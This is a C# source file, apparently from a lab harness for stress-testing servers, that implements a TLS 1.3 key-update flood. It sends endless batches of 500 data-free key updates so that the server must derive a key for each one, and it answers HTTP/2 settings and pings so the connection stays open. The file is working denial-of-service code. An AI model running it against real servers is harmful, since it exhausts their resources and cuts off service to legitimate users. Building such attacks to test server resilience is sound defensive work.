using Larder.Harness.Frames;

namespace Larder.Lab.Peers.Attacks;

/// <summary>Sends TLS 1.3 records that update the client's key and contain no data. Each record costs the server a key derivation.</summary>
internal sealed class KeyUpdateAttack : IServerAttack
{
    /// <summary>The number of updates that are sent together.</summary>
    public const int Updates = 500;

    /// <inheritdoc/>
    public string Name => "key-updates";

    /// <inheritdoc/>
    public string Description => "continuous TLS 1.3 key updates, as fast as the server reads them";

    /// <inheritdoc/>
    public AttackedServer Server => AttackedServer.Tls;

    /// <inheritdoc/>
    public string? Obstacle => OpenSsl.Obstacle;

    /// <inheritdoc/>
    public async Task RunAsync(AttackTarget target, AttackCounts counts, CancellationToken stop)
    {
        using RawTlsClient client = await RawTlsClient.ConnectAsync(target.Server, counts, null, null, stop).ConfigureAwait(false);
        await client.HandshakeAsync(stop).ConfigureAwait(false);
        client.Write(AttackConnection.Opening(AttackConnection.FirstWindow));
        byte[] unread = [];
        while (true)
        {
            stop.ThrowIfCancellationRequested();
            for (int update = 0; update < Updates; update++)
            {
                client.UpdateKey();
            }

            await client.FlushAsync(stop).ConfigureAwait(false);
            counts.AddRequests(Updates);
            if (client.HasInput)
            {
                unread = Answer(client, [.. unread, .. await client.ReadAsync(stop).ConfigureAwait(false)]);
            }
        }
    }

    // Acknowledges settings and answers pings, because otherwise the server would close the connection.
    private static byte[] Answer(RawTlsClient client, byte[] bytes)
    {
        int whole = 0;
        foreach (Http2Frame frame in Http2Frame.Read(bytes))
        {
            whole += Http2Frame.HeaderBytes + frame.Payload.Length;
            bool isAsked = frame.Type is Http2Frame.Settings or Http2Frame.Ping && (frame.Flags & Http2Frame.Acknowledge) == 0;
            if (isAsked)
            {
                byte[] payload = frame.Type == Http2Frame.Ping ? frame.Payload : [];
                client.Write(new Http2Frame(frame.Type, Http2Frame.Acknowledge, 0, payload).ToBytes());
            }
        }

        return bytes[whole..];
    }
}
